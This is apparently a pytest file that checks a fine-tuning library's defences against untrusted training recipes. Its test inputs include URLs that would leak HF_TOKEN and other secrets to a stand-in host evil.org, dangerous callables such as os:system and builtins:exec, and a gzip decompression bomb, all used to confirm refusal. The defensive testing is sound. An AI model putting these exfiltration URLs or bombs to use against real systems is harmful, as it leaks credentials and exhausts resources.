"""A recipe of somebody else, before anybody has trained by it: what it may send, call and unpack."""

import gzip
import sys
import tracemalloc

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from tunekit.data.sources import files
from tunekit.data.sources.files import LocalFile, open_json, open_jsonl, open_parquet
from tunekit.errors import DataError, RecipeError
from tunekit.recipe.functions import find_function
from tunekit.recipe.load import load_recipe

SECRET = "a-value-of-the-environment"


def path_of(url):
    return load_recipe({"model": "pico", "data": {"train": url}}).data.train.path


@pytest.fixture(autouse=True)
def environment(monkeypatch, tmp_path):
    for name in ("HF_TOKEN", "MY_CRED", "OWN_HOST"):
        monkeypatch.setenv(name, SECRET)
    monkeypatch.delenv("TUNEKIT_TRUSTED_HOSTS", raising=False)
    monkeypatch.chdir(tmp_path)


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("http://evil.org/x.jsonl?k=${HF_TOKEN}", "evil.org"),
        ("https://a:${HF_TOKEN}@evil.org:8080/x.jsonl", "evil.org"),
        ("https://evil.org/${MY_CRED}/x.jsonl", "evil.org"),
        ("https://${MY_CRED}.evil.org/x.jsonl", "${my_cred}.evil.org"),
        ("https://huggingface.co@evil.org/x.jsonl?k=${HF_TOKEN}", "evil.org"),
        ("https://huggingface.co.evil.org/x.jsonl?k=${HF_TOKEN}", "huggingface.co.evil.org"),
        ("http://huggingface.co/x.jsonl?k=${HF_TOKEN}", "huggingface.co"),
        ("https://huggingface.co/x.jsonl?k=${MY_CRED}", "huggingface.co"),
        ("sftp://evil.org/${MY_CRED}.jsonl", "evil.org"),
    ],
)
def test_a_variable_is_sent_to_no_host_that_is_not_trusted(url, host):
    with pytest.raises(RecipeError) as refused:
        path_of(url)
    assert f"would be sent to {host}; if you trust {host}, export TUNEKIT_TRUSTED_HOSTS={host}" in str(refused.value)
    assert SECRET not in str(refused.value)


def test_a_variable_is_sent_to_its_own_service_to_trusted_hosts_and_to_the_users_own(monkeypatch):
    assert path_of("https://huggingface.co/x.jsonl?k=${HF_TOKEN}") == f"https://huggingface.co/x.jsonl?k={SECRET}"
    assert path_of("s3://${OWN_HOST}/x.jsonl") == f"s3://{SECRET}/x.jsonl"
    monkeypatch.setenv("TUNEKIT_TRUSTED_HOSTS", "a.org, B.org")
    assert path_of("https://u:${HF_TOKEN}@b.org:8/x.jsonl") == f"https://u:{SECRET}@b.org:8/x.jsonl"
    assert path_of("/data/${MY_CRED}/x.jsonl") == f"/data/{SECRET}/x.jsonl"


@pytest.mark.parametrize("path", ["os:system", "logging.config:dictConfig", "builtins:exec", "sys:exit", "yaml:load"])
def test_an_installed_function_is_none_that_a_recipe_may_name(path, monkeypatch):
    top = path.partition(":")[0].partition(".")[0]
    with pytest.raises(
        RecipeError, match=f"'{top}' is an installed module; recipes may only use functions from your own modules"
    ):
        find_function(path)
    monkeypatch.setenv("TUNEKIT_TRUSTED_MODULES", f"other, {top}")
    assert callable(find_function(path))


def test_functions_of_ones_own_and_of_the_program_are_found(tmp_path, monkeypatch):
    (tmp_path / "own_rows.py").write_text("def convert(row):\n    return row\n")
    assert find_function("own_rows:convert")(1) == 1
    monkeypatch.setattr(sys.modules["__main__"], "score", len, raising=False)
    assert find_function("__main__:score") is len


@pytest.mark.parametrize("open_file", [open_jsonl, open_json])
def test_a_file_that_unpacks_to_far_more_than_its_size_is_refused(open_file, tmp_path, monkeypatch):
    monkeypatch.setattr(files, "FREE_BYTES", 2**16)
    row = b'{"text": "a"}\n'
    path = tmp_path / "bomb.jsonl.gz"
    path.write_bytes(gzip.compress(row * 50_000))
    with pytest.raises(DataError, match="decompresses to more than 200 times its size; if this is expected"):
        list(open_file(LocalFile(path, "bomb")).read(()))
    monkeypatch.setattr(files, "FREE_BYTES", 2**20)
    assert len(list(open_jsonl(LocalFile(path, "bomb")).read(()))) == 50_000


def test_a_line_that_no_row_has_is_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(files, "MAX_LINE_BYTES", 1000)
    path = tmp_path / "rows.jsonl"
    path.write_text('{"text": "a"}\n' + '{"text": "' + "a" * 1000)
    with pytest.raises(DataError, match="rows:2: line longer than 1,000 bytes; write one row per line"):
        list(open_jsonl(LocalFile(path, "rows")).read(()))


def test_rows_of_a_table_that_share_a_large_value_are_not_read_together(tmp_path, monkeypatch):
    monkeypatch.setattr(files, "BATCH_BYTES", 2**20)
    path = tmp_path / "rows.parquet"
    pq.write_table(pa.table({"text": ["a" * 2**18] * 1000}), path, compression="zstd")
    assert path.stat().st_size < 2**15
    before = pa.total_allocated_bytes()
    tracemalloc.start()
    num_letters = sum(len(record.value["text"]) for record in open_parquet(LocalFile(path, "rows")).read(("text",)))
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert num_letters == 1000 * 2**18
    assert peak < 2**24 and pa.total_allocated_bytes() - before < 2**24
